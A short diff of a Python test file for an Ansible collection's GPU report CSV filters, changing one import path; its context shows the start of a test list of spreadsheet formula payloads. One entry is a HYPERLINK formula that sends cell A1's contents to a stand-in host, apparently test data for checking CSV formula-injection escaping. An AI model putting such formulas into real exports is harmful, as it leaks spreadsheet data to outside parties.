@@ -14,7 +14,7 @@ import io
 import pytest
 
 from ansible_collections.mlops.modelarts.plugins.filter.report import gpu_report, gpu_report_csv
-from ansible_collections.mlops.modelarts.plugins.module_utils._csv import csv_cell, csv_row, csv_text
+from ansible_collections.mlops.modelarts.plugins.plugin_utils._csv import csv_cell, csv_row, csv_text
 
 FORMULAS = [
     '=HYPERLINK("http://x.invalid/?leak="&A1,"click me")',
